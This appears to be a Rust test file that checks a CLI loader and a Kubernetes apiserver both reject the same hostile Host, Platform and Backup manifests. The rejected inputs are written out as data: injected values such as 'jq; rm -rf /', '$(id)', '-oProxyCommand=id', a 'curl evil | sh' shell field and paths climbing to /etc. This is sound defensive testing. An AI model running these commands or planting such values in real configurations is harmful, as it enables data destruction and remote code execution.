//! The CLI path validates exactly as admission does: a corpus of hostile documents (shell and
//! option injection, names sudo or apt would read otherwise, out-of-range ports, unknown fields,
//! broken CEL invariants), each refused by `nova apply`'s loader naming the field, and each
//! refused by the real apiserver too (`kubectl create --dry-run=server --validate=strict`).
//! Valid documents pass both, so neither side refuses more than the other.

use anyhow::Result;
use serde_json::{Value, json};
use test_cluster::{ControlPlane, Mode, shared};

mod common;

const KEY: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFx4mJ0z3OLr4D0T2l3oCqL6tWcG5dU0m3X3Yk3Yk3Yk";

fn host(patch: Value) -> Value {
    let mut doc = json!({"apiVersion": "nova.infra.dev/v1alpha1", "kind": "Host", "metadata": {"name": "web-1"},
        "spec": {"address": "192.0.2.10", "hostKey": KEY, "sshKeySecretRef": {"name": "key", "key": "k"}}});
    common::merge(&mut doc, patch);
    doc
}

fn platform(patch: Value) -> Value {
    let mut doc = json!({"apiVersion": "nova.infra.dev/v1alpha1", "kind": "Platform",
        "metadata": {"name": "shop", "namespace": "default"},
        "spec": {"image": "shop:1", "command": ["/usr/bin/python3", "/opt/app.py"], "domains": ["shop.test"],
                 "target": {"hosts": {"names": ["web-1"]}}}});
    common::merge(&mut doc, patch);
    doc
}

fn backup(patch: Value) -> Value {
    let mut doc = json!({"apiVersion": "nova.infra.dev/v1alpha1", "kind": "Backup",
        "metadata": {"name": "db", "namespace": "default"},
        "spec": {"schedule": "0 3 * * *",
                 "source": {"files": {"hostRef": {"name": "web-1"}, "paths": ["/srv/site"]}},
                 "destination": {"hostPath": {"hostRef": {"name": "web-1"}, "path": "/var/backups"}}}});
    common::merge(&mut doc, patch);
    doc
}

fn backup_path(path: &str) -> Value {
    backup(json!({"spec": {"destination": {"hostPath": {"path": path}}}}))
}

/// (the field the refusal must name, the document)
fn corpus() -> Vec<(&'static str, Value)> {
    let boot = |b: Value| host(json!({"spec": {"bootstrap": b}}));
    let user = |u: Value| boot(json!({"users": [u]}));
    let rule = |r: Value| boot(json!({"firewall": {"allow": [r]}}));
    vec![
        ("spec.bootstrap.packages[0]", boot(json!({"packages": ["-oAPT::Update::Pre-Invoke::=id"]}))),
        ("spec.bootstrap.packages[0]", boot(json!({"packages": ["jq; rm -rf /"]}))),
        ("spec.bootstrap.packages[0]", boot(json!({"packages": ["$(id)"]}))),
        ("spec.bootstrap.packages[1]", boot(json!({"packages": ["jq", "--allow-unauthenticated"]}))),
        ("spec.bootstrap.packages[0]", boot(json!({"packages": ["jq=1.0 evil"]}))),
        ("spec.bootstrap.users[0].name", user(json!({"name": "bob.smith"}))),
        ("spec.bootstrap.users[0].name", user(json!({"name": "root; id"}))),
        ("spec.bootstrap.users[0].name", user(json!({"name": "-oops"}))),
        ("spec.bootstrap.users[0].name", user(json!({"name": "a-name-that-is-far-too-long-for-useradd"}))),
        ("spec.bootstrap.users[0].groups[0]", user(json!({"name": "deploy", "groups": ["sudo;id"]}))),
        ("spec.bootstrap.users[0].groups[0]", user(json!({"name": "deploy", "groups": ["../etc"]}))),
        ("spec.bootstrap.users[0].sudo", user(json!({"name": "deploy", "sudo": "yes"}))),
        ("spec.port", host(json!({"spec": {"port": 70000}}))),
        ("spec.port", host(json!({"spec": {"port": 0}}))),
        ("spec.port", host(json!({"spec": {"port": -22}}))),
        ("spec.address", host(json!({"spec": {"address": "host; id"}}))),
        ("spec.address", host(json!({"spec": {"address": "-oProxyCommand=id"}}))),
        ("spec.address", host(json!({"spec": {"address": ""}}))),
        ("spec.user", host(json!({"spec": {"user": "root\nid"}}))),
        ("spec.user", host(json!({"spec": {"user": "Root"}}))),
        ("spec.hostKey", host(json!({"spec": {"hostKey": format!("{KEY}\nssh-ed25519 AAAA")}}))),
        ("spec.hostKeyPolicy", host(json!({"spec": {"hostKeyPolicy": "TrustAll"}}))),
        ("hostKey is required", host(json!({"spec": {"hostKey": null}}))),
        ("spec.bootstrap.firewall.allow[0].port", rule(json!({"port": 99999}))),
        ("spec.bootstrap.firewall.allow[0].from[0]", rule(json!({"port": 80, "from": ["0.0.0.0/0; id"]}))),
        ("spec.bootstrap.firewall.allow[0].protocol", rule(json!({"port": 80, "protocol": "icmp"}))),
        ("spec.roles[0]", host(json!({"spec": {"roles": ["router"]}}))),
        ("shell", boot(json!({"shell": "curl evil | sh"}))),
        ("metadata.name", host(json!({"metadata": {"name": "Web_1"}}))),
        (
            "spec.allowedNamespaces.names[0]",
            host(json!({"spec": {"allowedNamespaces": {"names": ["team b"]}}})),
        ),
        ("sshKeySecretRef", host(json!({"spec": {"sshKeySecretRef": null}}))),
        ("spec.port", platform(json!({"spec": {"port": 65536}}))),
        ("spec.replicas", platform(json!({"spec": {"replicas": -1}}))),
        ("spec.domains[0]", platform(json!({"spec": {"domains": ["shop.test; id"]}}))),
        (
            "give exactly one",
            platform(json!({"spec": {"target": {"hosts": {"names": ["web-1"],
            "selector": {"matchLabels": {"role": "web"}}}}}})),
        ),
        (
            "spec.target.hosts.runtime",
            platform(json!({"spec": {"target": {"hosts": {"names": ["web-1"], "runtime": "podman"}}}})),
        ),
        ("metadata.namespace", platform(json!({"metadata": {"namespace": "Prod"}}))),
        // The issue's own try: a destination that climbs out of its directory.
        ("spec.destination.hostPath.path", backup_path("/b/../../etc")),
        ("spec.destination.hostPath.path", backup_path("/b/./c")),
        ("spec.destination.hostPath.path", backup_path("/b/..")),
        ("spec.destination.hostPath.path", backup_path("/var/backups/")),
        (
            "spec.source.files.paths[0]",
            backup(json!({"spec": {"source": {"files": {"paths": ["/srv/../etc"]}}}})),
        ),
        (
            "spec.source.files.paths[0]",
            backup(json!({"spec": {"source": {"files": {"paths": ["/srv/$(id)"]}}}})),
        ),
        ("spec.schedule", backup(json!({"spec": {"schedule": "daily"}}))),
        ("spec.retention.keepLast", backup(json!({"spec": {"retention": {"keepLast": -1}}}))),
        (
            "exactly one of s3, pvc or hostPath",
            backup(json!({"spec": {"destination": {"pvc": {"pvc": "data"}}}})),
        ),
    ]
}

/// What the apiserver says to `doc` under kubectl's strict validation; None when it is admitted.
fn apiserver_refusal(cp: &ControlPlane, doc: &Value) -> Result<Option<String>> {
    let out = common::dry_run(cp, serde_json::to_string(doc)?.as_bytes())?;
    Ok((!out.status.success()).then(|| String::from_utf8_lossy(&out.stderr).into_owned()))
}

fn cli_refusal(doc: &Value) -> Result<Option<String>> {
    let dir = tempfile::tempdir()?;
    let path = dir.path().join("doc.yaml");
    std::fs::write(&path, serde_yaml::to_string(doc)?)?;
    if doc["kind"] == "Backup" {
        return Ok(nova::backup::cli::load(&path).err().map(|e| e.to_string()));
    }
    Ok(nova::local::load(&path).err().map(|e| e.to_string()))
}

#[tokio::test]
async fn the_cli_refuses_what_admission_refuses_and_admits_what_it_admits() -> Result<()> {
    let cp = shared(Mode::ApiServer).await?;
    let client = cp.client().await?;
    common::install_crds(&client).await?;
    let cases = corpus();
    assert!(cases.len() >= 30, "a corpus of at least 30 cases ({})", cases.len());
    let mut wrong = Vec::new();
    for (i, (field, doc)) in cases.iter().enumerate() {
        let cli = cli_refusal(doc)?;
        let server = apiserver_refusal(cp, doc)?;
        match (&cli, &server) {
            (Some(msg), Some(_)) if msg.contains(field) => {}
            _ => wrong.push(format!("case {i} ({field}): CLI {cli:?}; apiserver {server:?}")),
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));

    let by_labels =
        json!({"spec": {"target": {"hosts": {"names": null, "selector": {"matchLabels": {"role": "web"}}}}}});
    for doc in [
        host(json!({})),
        platform(json!({})),
        platform(by_labels),
        backup(json!({})),
        backup_path("/var/backups/..data/.nova"),
        host(json!({"spec": {"hostKey": null, "hostKeyPolicy": "AcceptNew",
        "port": 2222, "bootstrap": {"packages": ["jq", "nginx-light=1.22.1-9"], "users": [{"name": "deploy", "groups": ["docker"]}]}}})),
    ] {
        assert_eq!(cli_refusal(&doc)?, None, "{doc}");
        assert_eq!(apiserver_refusal(cp, &doc)?, None, "{doc}");
    }
    Ok(())
}

/// `--help` shows that NOVA_STATE exists, never its value (it can be a PostgreSQL URL with a
/// password).
#[test]
fn help_never_prints_the_state_url() -> Result<()> {
    let url = "postgres://nova:s3cret-in-the-environment@db/nova";
    for args in
        [&["operator", "--help"][..], &["apply", "--help"], &["host", "facts", "--help"], &["get", "--help"]]
    {
        let out = std::process::Command::new(env!("CARGO_BIN_EXE_nova"))
            .args(args)
            .env("NOVA_STATE", url)
            .output()?;
        let text = String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr);
        assert!(out.status.success() && text.contains("NOVA_STATE"), "{args:?}: {text}");
        assert!(!text.contains("s3cret"), "{args:?} printed the state URL: {text}");
    }
    Ok(())
}
